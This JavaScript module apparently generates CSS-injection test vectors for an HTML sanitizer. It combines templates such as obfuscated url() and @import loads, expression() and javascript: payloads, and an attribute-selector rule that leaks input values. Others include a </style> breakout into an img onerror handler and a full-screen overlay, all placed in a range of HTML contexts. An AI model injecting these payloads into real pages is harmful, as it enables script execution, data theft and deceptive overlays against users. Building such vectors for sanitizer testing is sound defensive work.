// Styles that run, load, or lie over the page.
import { vector } from './make.mjs';

const DECLARATIONS = ['background:url(ASK)', 'background:url("ASK")', "background-image:\\75rl(ASK)", 'background:u/**/rl(ASK)', 'list-style:url(ASK)', 'content:url(ASK)', 'cursor:url(ASK),auto', 'border-image:url(ASK)', 'mask:url(ASK)', 'filter:url(ASK#x)', 'background:image-set("ASK" 1x)', 'background:-webkit-image-set(url(ASK) 1x)', 'src:url(ASK)', 'shape-outside:url(ASK)', 'offset-path:url(ASK)', 'background:url(javascript:RUN)', 'width:expression(RUN)', 'xss:e\\xpression(RUN)', 'xss:expr/*x*/ession(RUN)', 'behavior:url(ASK)', '-moz-binding:url(ASK#x)', 'background:url("data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'RUN\'/>")', '--x:url(ASK);background:var(--x)', 'position:fixed;inset:0;z-index:99999;background:red'];
const PLACES = ['<p style="WHAT">x</p>', "<b style='WHAT'>x</b>", '<style>*{WHAT}</style>', '<svg><style>*{WHAT}</style></svg>', '<div style=WHAT>x</div>', '<table><td style="WHAT">x</table>', '<svg><rect style="WHAT" width=9 height=9 /></svg>', '<style>@media all{*::before{WHAT}}</style>'];
const SHEETS = ['@import "ASK";', '@import url(ASK);', '@\\69mport "ASK";', '@import/**/"ASK";', '@font-face{font-family:x;src:url(ASK)}*{font-family:x}', '@charset "x";@import "data:text/css,*{background:url(ASK)}";', '@namespace "ASK";', '@import "javascript:RUN";', '@keyframes x{from{background:url(ASK)}}*{animation:x 1s}', 'input[value^=a]{background:url(ASK)}', '@font-face{font-family:x;src:url(ASK);unicode-range:U+0041}', '</style><img src=x onerror=RUN>', '<!--</style><img src=x onerror=RUN>', '{}*{background:url(ASK)}', '@page{background:url(ASK)}', '@layer x{@import "ASK"}'];
const SHEET_PLACES = ['<style>WHAT</style>', '<STYLE TYPE=text/css>WHAT</STYLE>', '<svg><style>WHAT</style></svg>', '<math><style>WHAT</style></math>', "<link rel=stylesheet href='data:text/css,WHAT'>", '<noscript><style>WHAT</style></noscript>', '<template><style>WHAT</style></template>', '<table><style>WHAT</style></table>'];

export function styleVectors() {
  const put = (places, list) => places.flatMap((place) => list.map((style) => vector(place.replace('WHAT', () => style))));
  return [...put(PLACES, DECLARATIONS), ...put(SHEET_PLACES, SHEETS)];
}
